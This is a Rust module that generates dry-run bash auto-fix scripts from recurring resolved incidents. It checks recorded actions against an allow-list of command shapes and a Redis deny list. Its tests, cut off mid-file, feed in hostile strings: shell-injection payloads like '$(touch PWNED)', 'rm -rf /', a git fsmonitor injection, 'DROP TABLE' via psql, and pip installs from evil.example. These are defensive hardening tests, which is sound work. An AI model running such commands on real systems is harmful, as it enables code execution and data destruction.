//! Candidate auto-fix scripts: for a pattern that was resolved several times by the same
//! actions, a reviewable bash script that replays them (dry run by default).
//!
//! Incident text is untrusted. It reaches a script only as a comment with control
//! characters removed, as a single-quoted string, or as the words of a command that passed
//! [`command_words`]; it is never evaluated by a shell.

use std::collections::BTreeSet;
use std::fmt::Write as _;
use std::fs;
use std::io;
use std::path::{Path, PathBuf};

use serde::Serialize;

use crate::fsutil::write_file;
use crate::kb::KbError;
use crate::model::Pattern;
use crate::model::Status;

/// The line that marks a script as tool-owned; without it a file is never overwritten.
pub(crate) const GENERATED_MARK: &str = "# incident:generated";

/// How the arguments of a known command may look. A recorded action becomes a runnable
/// step only when every word fits its command's shape; anything else stays an instruction.
/// Options are parsed the way the command parses them (short clusters with glued values,
/// `--long=value`), and strict commands accept only the options listed, exactly, so
/// neither a glued `-cCODE` nor an abbreviated `--ind=URL` slips through.
struct Shape {
    cmd: &'static str,
    /// The first non-option word must be one of these (`None`: any).
    subcommands: Option<&'static [&'static str]>,
    /// Options may come before the subcommand (global options such as `git -c` run code).
    globals: bool,
    /// The only options accepted (`None`: any option; the command has none that run code,
    /// fetch from elsewhere or change what runs).
    options: Option<&'static [Opt]>,
    /// A check of every non-option word after the command.
    positional: fn(&str) -> bool,
}

/// An accepted option: `-x` / `--long`, and whether it takes a value.
struct Opt(&'static str, bool);

fn any_word(_: &str) -> bool {
    true
}

/// `requests`, `requests==2.31.0`, `pydantic[email]`: a package by name, never a URL,
/// path or VCS reference.
fn package_spec(w: &str) -> bool {
    w.starts_with(|c: char| c.is_ascii_alphanumeric())
        && w.chars()
            .all(|c| c.is_ascii_alphanumeric() || "-_.[],=".contains(c))
}

/// `requirements.txt`, `deploy/requirements-prod.txt`.
fn requirements_file(w: &str) -> bool {
    w.ends_with(".txt") && !w.contains(':')
}

const PIP_OPTIONS: &[Opt] = &[
    Opt("-r", true),
    Opt("--requirement", true),
    Opt("-U", false),
    Opt("--upgrade", false),
    Opt("--user", false),
    Opt("--no-cache-dir", false),
    Opt("--force-reinstall", false),
    Opt("--no-deps", false),
    Opt("-q", false),
    Opt("--quiet", false),
    Opt("-y", false),
    Opt("--yes", false),
];

#[rustfmt::skip]
const SHAPES: &[Shape] = &[
    Shape { cmd: "systemctl", subcommands: Some(&["restart", "start", "stop", "status", "reload", "reset-failed", "is-active", "is-failed", "show", "list-units"]), globals: true, options: None, positional: any_word },
    Shape { cmd: "service", subcommands: None, globals: false, options: Some(&[]), positional: any_word },
    Shape { cmd: "supervisorctl", subcommands: Some(&["restart", "start", "stop", "status", "reread", "update", "tail"]), globals: false, options: None, positional: any_word },
    Shape { cmd: "docker", subcommands: Some(&["restart", "start", "stop", "ps", "logs", "inspect", "stats", "top"]), globals: false, options: None, positional: any_word },
    Shape { cmd: "kubectl", subcommands: Some(&["get", "describe", "logs", "rollout", "scale", "delete", "top", "cordon", "uncordon"]), globals: false, options: None, positional: any_word },
    Shape { cmd: "rabbitmqctl", subcommands: Some(&["status", "cluster_status", "list_queues", "list_connections", "list_channels", "list_consumers", "list_exchanges", "start_app", "stop_app", "await_startup", "ping"]), globals: false, options: None, positional: any_word },
    Shape { cmd: "pip", subcommands: Some(&["install", "uninstall", "check", "list", "show", "freeze"]), globals: false, options: Some(PIP_OPTIONS), positional: package_or_requirements },
    Shape { cmd: "pip3", subcommands: Some(&["install", "uninstall", "check", "list", "show", "freeze"]), globals: false, options: Some(PIP_OPTIONS), positional: package_or_requirements },
    Shape { cmd: "psql", subcommands: None, globals: true, options: Some(&[Opt("-h", true), Opt("-p", true), Opt("-U", true), Opt("-d", true), Opt("--host", true), Opt("--port", true), Opt("--username", true), Opt("--dbname", true), Opt("-w", false), Opt("--no-password", false), Opt("-l", false), Opt("--list", false)]), positional: any_word },
    Shape { cmd: "redis-cli", subcommands: None, globals: true, options: Some(&[Opt("-h", true), Opt("-p", true), Opt("-n", true), Opt("--no-auth-warning", false)]), positional: redis_word },
    Shape { cmd: "git", subcommands: Some(&["status", "pull", "fetch", "checkout", "log", "diff", "stash", "revert", "show"]), globals: false, options: Some(&[Opt("--ff-only", false), Opt("--rebase", false), Opt("--no-rebase", false), Opt("--all", false), Opt("--prune", false), Opt("--stat", false), Opt("--oneline", false), Opt("-b", true), Opt("-n", true), Opt("-q", false), Opt("--quiet", false)]), positional: any_word },
    Shape { cmd: "python", subcommands: None, globals: true, options: Some(PYTHON_OPTIONS), positional: any_word },
    Shape { cmd: "python3", subcommands: None, globals: true, options: Some(PYTHON_OPTIONS), positional: any_word },
    Shape { cmd: "journalctl", subcommands: None, globals: true, options: None, positional: any_word },
    Shape { cmd: "chmod", subcommands: None, globals: true, options: None, positional: any_word },
    Shape { cmd: "chown", subcommands: None, globals: true, options: None, positional: any_word },
    Shape { cmd: "mkdir", subcommands: None, globals: true, options: None, positional: any_word },
    Shape { cmd: "kill", subcommands: None, globals: true, options: None, positional: any_word },
    Shape { cmd: "pkill", subcommands: None, globals: true, options: None, positional: any_word },
    Shape { cmd: "ss", subcommands: None, globals: true, options: None, positional: any_word },
    Shape { cmd: "df", subcommands: None, globals: true, options: None, positional: any_word },
    Shape { cmd: "free", subcommands: None, globals: true, options: None, positional: any_word },
    Shape { cmd: "ps", subcommands: None, globals: true, options: None, positional: any_word },
    Shape { cmd: "ls", subcommands: None, globals: true, options: None, positional: any_word },
];

/// Python runs a script file (`python3 manage.py migrate`) or pip (`-m pip …`, checked as
/// pip); `-c`, other modules and stdin are refused.
const PYTHON_OPTIONS: &[Opt] = &[
    Opt("-u", false),
    Opt("-B", false),
    Opt("-E", false),
    Opt("-I", false),
    Opt("-s", false),
    Opt("-O", false),
    Opt("-m", true),
];

fn package_or_requirements(w: &str) -> bool {
    package_spec(w) || requirements_file(w)
}

/// Redis commands that run scripts, load modules or reconfigure the server are refused.
fn redis_word(w: &str) -> bool {
    let lower = w.to_ascii_lowercase();
    !matches!(
        lower.as_str(),
        "eval"
            | "evalsha"
            | "eval_ro"
            | "evalsha_ro"
            | "script"
            | "function"
            | "fcall"
            | "fcall_ro"
            | "module"
            | "config"
            | "debug"
            | "shutdown"
            | "replicaof"
            | "slaveof"
            | "migrate"
            | "restore"
    )
}

/// Checks `args` (the words after the command) against `shape`.
fn fits(shape: &Shape, args: &[String]) -> bool {
    let find = |name: &str| shape.options.map(|opts| opts.iter().find(|o| o.0 == name));
    let mut sub_seen = shape.subcommands.is_none();
    let mut only_positional = false;
    let mut i = 0;
    while i < args.len() {
        let w = args[i].as_str();
        i += 1;
        let is_option = !only_positional && w.starts_with('-') && w.len() > 1;
        if w == "--" && !only_positional {
            // Only git's `checkout -- <path>` needs it; a path after it is a word.
            if shape.cmd != "git" || !sub_seen {
                return false;
            }
            only_positional = true;
            continue;
        }
        if !is_option {
            if !sub_seen {
                match shape.subcommands {
                    Some(subs) if subs.contains(&w) => sub_seen = true,
                    _ => return false,
                }
            } else if !(shape.positional)(w) {
                return false;
            }
            continue;
        }
        if !sub_seen && !shape.globals {
            return false;
        }
        if let Some(long) = w.strip_prefix("--") {
            let (name, glued) = match long.split_once('=') {
                Some((n, v)) => (n, Some(v)),
                None => (long, None),
            };
            match find(&format!("--{name}")) {
                None => {}
                Some(None) => return false,
                Some(Some(Opt(_, true))) => {
                    let value = match glued {
                        Some(v) => v,
                        None => match args.get(i) {
                            Some(v) => {
                                i += 1;
                                v.as_str()
                            }
                            None => return false,
                        },
                    };
                    if !value_ok(shape, &format!("--{name}"), value) {
                        return false;
                    }
                }
                Some(Some(Opt(_, false))) if glued.is_some() => return false,
                Some(Some(_)) => {}
            }
            continue;
        }
        // A short cluster: `-xvf`, `-Upostgres`, `-cCODE`.
        let cluster: Vec<char> = w[1..].chars().collect();
        for (j, &c) in cluster.iter().enumerate() {
            match find(&format!("-{c}")) {
                None => {}
                Some(None) => return false,
                Some(Some(Opt(name, true))) => {
                    let rest: String = cluster[j + 1..].iter().collect();
                    let value = if rest.is_empty() {
                        match args.get(i) {
                            Some(v) => {
                                i += 1;
                                v.clone()
                            }
                            None => return false,
                        }
                    } else {
                        rest
                    };
                    if shape.cmd.starts_with("python") && *name == "-m" {
                        return value == "pip" && pip_fits(&args[i..]);
                    }
                    if !value_ok(shape, name, &value) {
                        return false;
                    }
                    break;
                }
                Some(Some(Opt(_, false))) => {}
            }
        }
    }
    // A subcommand-driven command needs its subcommand; python needs a script.
    let script_given = args
        .iter()
        .any(|a| !a.starts_with('-') && a.ends_with(".py"));
    sub_seen && (script_given || !shape.cmd.starts_with("python"))
}

fn pip_fits(args: &[String]) -> bool {
    SHAPES
        .iter()
        .find(|s| s.cmd == "pip")
        .is_some_and(|pip| fits(pip, args))
}

fn value_ok(shape: &Shape, option: &str, value: &str) -> bool {
    match (shape.cmd, option) {
        ("pip" | "pip3", "-r" | "--requirement") => requirements_file(value),
        _ => !value.is_empty(),
    }
}

/// When a pattern deserves a script.
#[derive(Clone, Debug, PartialEq, Serialize)]
pub struct AutofixOptions {
    /// Resolved incidents needed before a script is suggested.
    pub min_resolved: u64,
    /// At most this many recorded actions become steps.
    pub max_steps: usize,
}

impl Default for AutofixOptions {
    fn default() -> Self {
        Self {
            min_resolved: 2,
            max_steps: 10,
        }
    }
}

/// Where a step came from.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
#[serde(tag = "kind", rename_all = "snake_case")]
pub enum StepSource {
    /// A recorded action, used by `used_in` of the pattern's resolved incidents.
    Recorded { action: String, used_in: u64 },
    /// Suggested (printed, never run) because the pattern's text mentions `keyword`.
    KeywordRule { keyword: &'static str },
}

/// One step of a script.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
#[serde(tag = "type", rename_all = "snake_case")]
pub enum Step {
    /// Run with `--apply`; a failure stops the script unless `check` is set.
    Command {
        argv: Vec<String>,
        check: bool,
        source: StepSource,
    },
    /// Printed for a person to carry out.
    Instruction { text: String, source: StepSource },
}

/// A generated script.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct Script {
    /// `<pattern-id>.sh`.
    pub file_name: String,
    pub content: String,
    pub steps: Vec<Step>,
}

/// What writing a script did (or would do).
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum ScriptStatus {
    New,
    Changed,
    Unchanged,
    /// The file exists without the generated mark: a person owns it.
    KeptEdited,
}

/// A script and what writing it to disk would do.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct ScriptPlan {
    pub pattern_id: String,
    pub path: PathBuf,
    /// The file's current content, if it exists.
    pub old: Option<String>,
    pub script: Script,
    pub status: ScriptStatus,
}

/// Incidents of the pattern that are resolved or closed, whether or not their resolution
/// time is known (`Pattern::resolved` counts only those with a known time).
pub(crate) fn resolved_total(p: &Pattern) -> u64 {
    let by_status: u64 = p
        .statuses
        .iter()
        .filter(|s| matches!(s.value, Status::Resolved | Status::Closed))
        .map(|s| s.count)
        .sum();
    by_status.max(p.resolved)
}

/// Pattern ids become file names and marker text, so only a plain shape is accepted.
pub(crate) fn valid_pattern_id(id: &str) -> bool {
    (1..=64).contains(&id.len())
        && id
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b == b'_' || b == b'-')
}

/// The script for `p`, if its resolved incidents agree on a fix that has a command in it.
pub fn candidate(p: &Pattern, opts: &AutofixOptions) -> Option<Script> {
    let resolved = resolved_total(p);
    if !valid_pattern_id(&p.id) || resolved < opts.min_resolved.max(1) {
        return None;
    }
    let majority = |n: u64| n.saturating_mul(2) > resolved;
    let (actions, evidence): (Vec<(String, u64)>, String) = match p.action_sets.first() {
        Some(set) if majority(set.count) && !set.value.is_empty() => (
            set.value.iter().map(|a| (a.clone(), set.count)).collect(),
            format!(
                "{} of {} resolved incidents were resolved with exactly these actions.",
                set.count, resolved
            ),
        ),
        _ => {
            let common: Vec<(String, u64)> = p
                .actions
                .iter()
                .filter(|a| majority(a.count))
                .map(|a| (a.value.clone(), a.count))
                .collect();
            let evidence = format!(
                "each recorded step was used in more than half of the {resolved} resolved incidents."
            );
            (common, evidence)
        }
    };
    if actions.is_empty() {
        return None;
    }

    let mut steps = Vec::new();
    let mut seen = BTreeSet::new();
    for (action, used_in) in actions.into_iter().take(opts.max_steps) {
        let source = StepSource::Recorded {
            action: action.clone(),
            used_in,
        };
        match command_words(&action) {
            Some(argv) => {
                if seen.insert(argv.clone()) {
                    steps.push(Step::Command {
                        argv,
                        check: false,
                        source,
                    });
                }
            }
            None => steps.push(Step::Instruction {
                text: one_line(&action),
                source,
            }),
        }
    }
    // Keyword knowledge adds read-only diagnostics, printed as suggestions and never run.
    for step in keyword_steps(p) {
        let Step::Instruction { text, .. } = &step else {
            continue;
        };
        let duplicate = steps.iter().any(|s| match s {
            Step::Command { argv, .. } => argv.join(" ") == *text,
            Step::Instruction { text: t, .. } => t == text,
        });
        if !duplicate {
            steps.push(step);
        }
    }
    if !steps.iter().any(|s| matches!(s, Step::Command { .. })) {
        return None;
    }
    let content = render(p, &steps, &evidence);
    Some(Script {
        file_name: format!("{}.sh", p.id),
        content,
        steps,
    })
}

/// The scripts for `patterns` under `dir`, with what writing them would change.
pub fn plan_scripts(
    dir: &Path,
    patterns: &[Pattern],
    opts: &AutofixOptions,
) -> Result<Vec<ScriptPlan>, KbError> {
    let mut plans = Vec::new();
    let mut seen = BTreeSet::new();
    for p in patterns {
        if !seen.insert(p.id.as_str()) {
            continue;
        }
        let Some(script) = candidate(p, opts) else {
            continue;
        };
        let path = dir.join(&script.file_name);
        let old = match fs::read(&path) {
            Ok(bytes) => Some(String::from_utf8_lossy(&bytes).into_owned()),
            Err(e) if e.kind() == io::ErrorKind::NotFound => None,
            Err(source) => return Err(KbError::Read { path, source }),
        };
        let status = match &old {
            None => ScriptStatus::New,
            Some(text) if !text.lines().any(|l| l == GENERATED_MARK) => ScriptStatus::KeptEdited,
            Some(text) if *text == script.content => ScriptStatus::Unchanged,
            Some(_) => ScriptStatus::Changed,
        };
        plans.push(ScriptPlan {
            pattern_id: p.id.clone(),
            path,
            old,
            script,
            status,
        });
    }
    Ok(plans)
}

/// Writes the planned scripts that are new or changed (atomically, mode 0644).
pub(crate) fn apply_plans(plans: &[ScriptPlan]) -> Result<Vec<PathBuf>, KbError> {
    let mut written = Vec::new();
    for plan in plans {
        if matches!(plan.status, ScriptStatus::New | ScriptStatus::Changed) {
            write_file(&plan.path, plan.script.content.as_bytes(), Some(0o644)).map_err(
                |source| KbError::Write {
                    path: plan.path.clone(),
                    source,
                },
            )?;
            written.push(plan.path.clone());
        }
    }
    Ok(written)
}

/// Writes `<dir>/<pattern-id>.sh` for every pattern with a candidate; returns the paths
/// actually written. Content is deterministic, so a rerun writes nothing.
pub fn write_scripts(
    dir: &Path,
    patterns: &[Pattern],
    opts: &AutofixOptions,
) -> Result<Vec<PathBuf>, KbError> {
    apply_plans(&plan_scripts(dir, patterns, opts)?)
}

/// The words of `action` if it is a literal command that is safe to run word by word:
/// the whole action (or the whole action in one backtick span) starts with a known
/// command, holds nothing a shell would treat specially, and its arguments fit the
/// command's [`Shape`]. A command inside prose stays prose: a script runs recorded actions
/// exactly as recorded, nothing cut out of them.
pub(crate) fn command_words(action: &str) -> Option<Vec<String>> {
    let trimmed = action.trim();
    let candidate = match trimmed.strip_prefix('`').and_then(|t| t.strip_suffix('`')) {
        Some(inner) => inner.trim(),
        None => trimmed,
    };
    let allowed = |c: char| c.is_alphanumeric() || " _./:=,@%+-'\"".contains(c);
    if candidate.is_empty() || !candidate.chars().all(allowed) {
        return None;
    }
    let words = split_words(candidate)?;
    let first = words.first()?;
    let shape = SHAPES.iter().find(|s| s.cmd == first)?;
    // `/`, `//`, `.`, `..`: a recursive chmod or chown on these is never a recorded fix.
    // A URL fetches from elsewhere.
    if words
        .iter()
        .any(|w| w.chars().all(|c| c == '/' || c == '.') || w.contains("://"))
    {
        return None;
    }
    fits(shape, &words[1..]).then_some(words)
}

/// Splits on spaces with single and double quotes grouping (the caller has already
/// refused `$`, backslashes and backticks, so double quotes are literal too).
fn split_words(s: &str) -> Option<Vec<String>> {
    let mut words = Vec::new();
    let mut cur = String::new();
    let mut in_word = false;
    let mut quote: Option<char> = None;
    for c in s.chars() {
        match (quote, c) {
            (Some(q), c) if c == q => quote = None,
            (Some(_), c) => cur.push(c),
            (None, '\'' | '"') => {
                quote = Some(c);
                in_word = true;
            }
            (None, ' ') => {
                if in_word {
                    words.push(std::mem::take(&mut cur));
                    in_word = false;
                }
            }
            (None, c) => {
                cur.push(c);
                in_word = true;
            }
        }
    }
    if quote.is_some() {
        return None;
    }
    if in_word {
        words.push(cur);
    }
    Some(words)
}

/// Read-only diagnostics suggested by keywords in the pattern's own text (never built
/// from it). They are only ever printed: a script runs nothing that was not recorded.
fn keyword_steps(p: &Pattern) -> Vec<Step> {
    let mut text = format!("{} {}", p.template, p.name);
    for c in &p.components {
        text.push(' ');
        text.push_str(&c.value);
    }
    let text = text.to_lowercase();
    let has = |words: &[&str]| words.iter().any(|w| text.contains(w));
    let mut out = Vec::new();
    let mut suggest = |keyword: &'static str, diagnostics: &[&str]| {
        for d in diagnostics {
            out.push(Step::Instruction {
                text: (*d).to_string(),
                source: StepSource::KeywordRule { keyword },
            });
        }
    };
    if has(&["rabbitmq", "amqp"]) {
        suggest(
            "rabbitmq",
            &[
                "systemctl status rabbitmq-server",
                "rabbitmqctl list_queues",
            ],
        );
    }
    if has(&["connection", "connect", "refused", "unreachable"]) {
        suggest("connection", &["ss -tlnp"]);
    }
    if has(&["modulenotfounderror", "module not found", "no module named"]) {
        suggest("module not found", &["pip check"]);
    }
    if has(&["permission", "eacces", "not permitted"]) {
        suggest("permission", &["ls -l <the path named in the error>"]);
    }
    if has(&["worker"]) {
        suggest(
            "worker",
            &[
                "systemctl status <worker>",
                "journalctl -u <worker> -n 100 --no-pager",
            ],
        );
    }
    out
}

fn render(p: &Pattern, steps: &[Step], evidence: &str) -> String {
    let uses_check = steps
        .iter()
        .any(|s| matches!(s, Step::Command { check: true, .. }));
    let uses_run = steps
        .iter()
        .any(|s| matches!(s, Step::Command { check: false, .. }));
    let is_suggestion = |s: &Step| {
        matches!(
            s,
            Step::Instruction {
                source: StepSource::KeywordRule { .. },
                ..
            }
        )
    };
    let uses_manual = steps
        .iter()
        .any(|s| matches!(s, Step::Instruction { .. }) && !is_suggestion(s));
    let uses_suggest = steps.iter().any(is_suggestion);

    let mut out = String::new();
    out.push_str("#!/usr/bin/env bash\n");
    out.push_str(GENERATED_MARK);
    out.push('\n');
    out.push_str(
        "# Rewritten by `incident kb suggest --write`; delete the line above to keep your edits.\n#\n",
    );
    let _ = writeln!(
        out,
        "# Candidate auto-fix for pattern {}: {}",
        p.id,
        comment(&p.name)
    );
    let _ = writeln!(out, "# Template: {}", comment(&p.template));
    let _ = writeln!(
        out,
        "# Incidents: {} ({} resolved, {} recurred after an earlier resolution).",
        p.count,
        resolved_total(p),
        p.recurrences
    );
    let _ = writeln!(out, "# Evidence: {evidence}");
    out.push_str(concat!(
        "#\n",
        "# Review every step before running with --apply. Only recorded actions run, quoted\n",
        "# word by word; other recorded steps and keyword suggestions are only printed.\n",
        "# Usage: bash <this file> [--dry-run | --apply]   (default: dry run, runs nothing)\n",
        "set -euo pipefail\n",
        "\n",
        "apply=0\n",
        "case \"${1:-}\" in\n",
        "  --apply) apply=1 ;;\n",
        "  '' | --dry-run) ;;\n",
        "  *)\n",
        "    printf 'usage: %s [--dry-run | --apply]\\n' \"$0\" >&2\n",
        "    exit 2\n",
        "    ;;\n",
        "esac\n",
        "\n",
    ));
    if uses_run {
        out.push_str(concat!(
            "run() {\n",
            "  printf '+'\n",
            "  printf ' %q' \"$@\"\n",
            "  printf '\\n'\n",
            "  if [ \"$apply\" -eq 1 ]; then\n",
            "    \"$@\"\n",
            "  fi\n",
            "}\n",
            "\n",
        ));
    }
    if uses_check {
        out.push_str(concat!(
            "check() {\n",
            "  printf '+'\n",
            "  printf ' %q' \"$@\"\n",
            "  printf '   (check: a failure does not stop the script)\\n'\n",
            "  if [ \"$apply\" -eq 1 ]; then\n",
            "    \"$@\" || printf 'check exited with status %s\\n' \"$?\"\n",
            "  fi\n",
            "}\n",
            "\n",
        ));
    }
    if uses_manual {
        out.push_str(concat!(
            "manual() {\n",
            "  printf 'manual step: %s\\n' \"$1\"\n",
            "}\n",
            "\n",
        ));
    }
    if uses_suggest {
        out.push_str(concat!(
            "suggest() {\n",
            "  printf 'suggested diagnostic (read-only, never run by this script): %s\\n' \"$1\"\n",
            "}\n",
            "\n",
        ));
    }
    out.push_str(concat!(
        "if [ \"$apply\" -eq 0 ]; then\n",
        "  printf 'dry run: printing the steps only; pass --apply to run the commands\\n'\n",
        "fi\n",
    ));

    for (i, step) in steps.iter().enumerate() {
        let (source, line) = match step {
            Step::Command {
                argv,
                check,
                source,
            } => {
                let words: Vec<String> = argv.iter().map(|w| shell_word(w)).collect();
                let verb = if *check { "check" } else { "run" };
                (source, format!("{verb} {}", words.join(" ")))
            }
            Step::Instruction { text, source } => {
                // SC2016 flags `$` or backticks in single quotes: here they are meant literally.
                let directive = if text.contains('$') || text.contains('`') {
                    "# shellcheck disable=SC2016\n"
                } else {
                    ""
                };
                let verb = if matches!(source, StepSource::KeywordRule { .. }) {
                    "suggest"
                } else {
                    "manual"
                };
                (source, format!("{directive}{verb} {}", sq(text)))
            }
        };
        let why = match source {
            StepSource::Recorded { action, used_in } => format!(
                "recorded action (used in {used_in} of {} resolved incidents): {}",
                resolved_total(p),
                comment(action)
            ),
            StepSource::KeywordRule { keyword } => {
                format!("suggested by keyword rule: {keyword} (printed only)")
            }
        };
        let _ = write!(out, "\n# Step {}: {why}\n{line}\n", i + 1);
    }
    out
}

/// Text safe inside a `#` comment: control characters (newlines above all) become spaces.
fn comment(s: &str) -> String {
    s.chars()
        .map(|c| if c.is_control() { ' ' } else { c })
        .collect::<String>()
        .trim()
        .to_string()
}

/// The text on one line with runs of whitespace collapsed.
fn one_line(s: &str) -> String {
    s.split(|c: char| c.is_whitespace() || c.is_control())
        .filter(|w| !w.is_empty())
        .collect::<Vec<_>>()
        .join(" ")
}

/// A single-quoted shell string; `'` becomes `'\''` and control characters spaces.
fn sq(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 2);
    out.push('\'');
    for c in s.chars() {
        match c {
            '\'' => out.push_str("'\\''"),
            c if c.is_control() => out.push(' '),
            c => out.push(c),
        }
    }
    out.push('\'');
    out
}

/// A word left bare when it has only characters no shell treats specially, else quoted.
fn shell_word(w: &str) -> String {
    let plain = !w.is_empty()
        && w.bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"_./:=,@%+-".contains(&b));
    if plain { w.to_string() } else { sq(w) }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::Counted;
    use crate::model::{Category, Timestamp};
    use std::io::Write as _;
    use std::process::Command;

    /// Writes the script into `dir` and asserts that `bash -n` and shellcheck accept it.
    fn write_and_lint(dir: &Path, script: &Script) -> PathBuf {
        let path = dir.join(&script.file_name);
        fs::write(&path, &script.content).expect("write");
        let syntax = Command::new("bash")
            .arg("-n")
            .arg(&path)
            .output()
            .expect("bash -n");
        assert!(
            syntax.status.success(),
            "bash -n: {}",
            String::from_utf8_lossy(&syntax.stderr)
        );
        if !tool_available("shellcheck") {
            return path;
        }
        let lint = Command::new("shellcheck")
            .arg(&path)
            .output()
            .expect("shellcheck runs");
        assert!(
            lint.status.success(),
            "shellcheck:\n{}\n{}",
            String::from_utf8_lossy(&lint.stdout),
            script.content
        );
        path
    }

    fn counted<T>(value: T, count: u64) -> Counted<T> {
        Counted { value, count }
    }

    fn pattern(id: &str, template: &str, actions: &[&str], resolved: u64) -> Pattern {
        Pattern {
            id: id.to_string(),
            template: template.to_string(),
            name: template.replace("<*>", "").trim().to_string(),
            count: resolved + 1,
            first_seen: Timestamp::from_micros(1_736_000_000_000_000),
            last_seen: Timestamp::from_micros(1_752_000_000_000_000),
            categories: vec![counted(Category::Failure, resolved + 1)],
            components: vec![],
            statuses: vec![],
            recurrences: 1,
            resolved,
            mean_resolve_secs: Some(3600.0),
            median_resolve_secs: Some(1800.0),
            root_causes: vec![],
            actions: actions
                .iter()
                .map(|a| counted(a.to_string(), resolved))
                .collect(),
            action_sets: vec![counted(
                actions.iter().map(|a| a.to_string()).collect(),
                resolved,
            )],
            preventive_measures: vec![],
            last_fix: actions.iter().map(|a| a.to_string()).collect(),
            examples: vec![],
        }
    }

    fn hostile() -> Pattern {
        let mut p = pattern(
            "P0badc0de",
            "Disk full $(touch PWNED) `touch PWNED` 'quote\nrm -rf / <*>",
            &[
                "`$(touch PWNED)`",
                "echo hi; touch PWNED",
                "mkdir made_by_script",
                "systemctl restart x; touch PWNED",
                "mkdir 'a b' \"c\nd\"",
                "kubectl get pods | touch PWNED",
                "pip install `touch PWNED`",
                "chmod 644 $(touch PWNED)",
                "python -c 'import os'",
                "git -c core.fsmonitor=\"touch PWNED\" status",
                "rm -rf /",
                "it's done\n$(touch PWNED)\ntouch PWNED",
            ],
            3,
        );
        p.name = "title with ' quote\n$(touch PWNED)\n`touch PWNED`".to_string();
        p
    }

    /// Whether an external linter is installed. A test that needs one skips itself when it
    /// is absent and says so on stderr (not captured by the test harness), unless
    /// `INCIDENT_REQUIRE_LINTERS` is set, as CI sets it: there a missing linter fails.
    fn tool_available(tool: &str) -> bool {
        if Command::new(tool).arg("--version").output().is_ok() {
            return true;
        }
        assert!(
            std::env::var_os("INCIDENT_REQUIRE_LINTERS").is_none(),
            "{tool} is not installed and INCIDENT_REQUIRE_LINTERS is set"
        );
        let _ = writeln!(
            std::io::stderr(),
            "skipped: {tool} is not installed; its checks did not run (apt-get install {tool})"
        );
        false
    }

    fn run_bash(script: &Path, dir: &Path, args: &[&str]) -> std::process::Output {
        Command::new("bash")
            .arg(script)
            .args(args)
            .current_dir(dir)
            .output()
            .expect("bash runs")
    }

    #[test]
    fn commands_are_recognised_only_when_plain() {
        let ok = |s: &str| command_words(s);
        assert_eq!(
            ok("systemctl restart rabbitmq-server"),
            Some(vec![
                "systemctl".into(),
                "restart".into(),
                "rabbitmq-server".into()
            ])
        );
        assert_eq!(
            ok("`kubectl rollout restart deploy/api`"),
            Some(vec![
                "kubectl".into(),
                "rollout".into(),
                "restart".into(),
                "deploy/api".into()
            ])
        );
        assert_eq!(ok("mkdir 'a b'"), Some(vec!["mkdir".into(), "a b".into()]));
        for good in [
            "pip install -r requirements.txt",
            "pip3 install --upgrade requests==2.31.0",
            "python3 -m pip install -r requirements.txt",
            "python3 manage.py migrate",
            "psql -U postgres -d app",
            "git checkout -- config/settings.yaml",
            "redis-cli -h 10.0.0.2 ping",
            "journalctl --vacuum-size=500M",
            "chmod 644 /var/log/app/worker.log",
        ] {
            assert!(ok(good).is_some(), "{good:?} is a plain recorded command");
        }
        for bad in [
            "`$(touch PWNED)`",
            "echo hi; touch PWNED",
            "systemctl restart x && touch y",
            "kubectl logs x > out",
            "pip install `x` `y`",
            "chmod 644 $(touch PWNED)",
            "systemctl restart ${SVC}",
            "python -c 'import os'",
            "git -c core.fsmonitor=x status",
            "rm -rf /tmp/x",
            "chown -R app /",
            "chmod -R 777 .",
            "mkdir ''",
            "mkdir 'unterminated",
            "Restart the service",
            "touch PWNED",
            "ls *.log",
            "ls ~/x",
            // A command inside prose is not the recorded action.
            "Ran `supervisorctl restart all` on the host",
            // Code given on the command line, in every option form.
            "psql '-cDROP TABLE users'",
            "psql -c 'DROP TABLE users'",
            "psql --command='DROP TABLE users'",
            "psql --comm='DROP TABLE users'",
            "psql -Xc 'DROP TABLE users'",
            "psql -f drop.sql",
            "python3 '-cimport this'",
            "python3 -Ic 'import this'",
            "python3 -c 'import this'",
            "python3 -m http.server",
            "python3 -mhttp.server",
            "python3",
            "git -ccore.fsmonitor=x status",
            "git --exec-path=/tmp status",
            "git pull --upload-pack=x origin",
            "redis-cli EVAL 'return 1' 0",
            "rabbitmqctl eval 'halt().'",
            "docker run alpine",
            "docker -H tcp://x ps",
            "kubectl exec pod -- sh",
            // Installing from somewhere else.
            "pip install --index-url=http://evil.example/simple requests",
            "pip install --index-url http://evil.example/simple requests",
            "pip install -i http://evil.example/simple requests",
            "pip install --ind=http://evil.example/simple requests",
            "pip install --extra-index-url=http://evil.example/simple requests",
            "pip install git+https://evil.example/x.git",
            "pip install ./local_pkg",
            "pip install -r http://evil.example/req.txt",
            "python3 -m pip install --index-url=http://evil.example/simple x",
        ] {
            assert_eq!(ok(bad), None, "{bad:?} must not become a command");
        }
    }

    #[test]
    fn quoting_round_trips_through_bash() {
        for s in ["it's", "a b", "$(x) `y` \\ \"", "日本語"] {
            let out = Command::new("bash")
                .arg("-c")
                .arg(format!("printf %s {}", sq(s)))
                .output()
                .expect("bash runs");
            assert_eq!(String::from_utf8_lossy(&out.stdout), s);
        }
    }

    #[test]
    fn no_script_without_agreement_or_commands() {
        let opts = AutofixOptions::default();
        assert!(candidate(&pattern("P00000001", "x <*>", &["mkdir y"], 1), &opts).is_none());
        assert!(candidate(&pattern("P00000002", "x <*>", &["再起動した"], 3), &opts).is_none());
        let mut split = pattern("P00000003", "x <*>", &["mkdir y"], 4);
        split.action_sets = vec![counted(vec!["mkdir y".into()], 2)];
        split.actions = vec![counted("mkdir y".into(), 2)];
        assert!(
            candidate(&split, &opts).is_none(),
            "2 of 4 is not a majority"
        );
        split.actions = vec![counted("mkdir y".into(), 3)];
        assert!(candidate(&split, &opts).is_some(), "3 of 4 used the action");
        assert!(candidate(&pattern("../evil", "x", &["mkdir y"], 3), &opts).is_none());
    }

    /// Regression: a keyword rule once added `run systemctl restart rabbitmq-server` to a
    /// WorkerCrashError script because a component's name contained "rabbitmq".
    #[test]
